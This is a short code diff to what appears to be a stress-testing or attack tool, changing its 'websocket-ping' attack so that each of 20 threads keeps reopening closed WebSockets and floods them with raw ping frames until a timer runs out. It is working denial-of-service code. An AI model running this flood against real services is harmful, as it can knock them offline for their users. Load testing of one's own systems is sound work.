@@ -65,7 +65,7 @@ def _drain(connection: socket.socket) -> None:
 
 @attack("websocket-ping")
 def websocket_ping(target: Target) -> None:
-    """Floods with pings on 20 WebSockets, and reads the pongs."""
+    """Floods with pings on 20 WebSockets, and reads the pongs; where one is closed, it comes again."""
     threads = [threading.Thread(target=_pings, args=(target,), daemon=True) for _ in range(20)]
     for thread in threads:
         thread.start()
@@ -74,15 +74,16 @@ def websocket_ping(target: Target) -> None:
 
 
 def _pings(target: Target) -> None:
-    connection = _websocket(target)
-    threading.Thread(target=_drain, args=(connection,), daemon=True).start()
     ends = time.monotonic() + target.seconds
-    try:
-        while time.monotonic() < ends:
-            connection.sendall(b"\x89\x80\0\0\0\0" * TOGETHER)
-    except OSError:
-        pass
-    connection.close()
+    while time.monotonic() < ends:
+        connection = _websocket(target)
+        threading.Thread(target=_drain, args=(connection,), daemon=True).start()
+        try:
+            while time.monotonic() < ends:
+                connection.sendall(b"\x89\x80\0\0\0\0" * TOGETHER)
+        except OSError:
+            pass
+        connection.close()
 
 
 @attack("websocket-unfinished", in_slice=False)
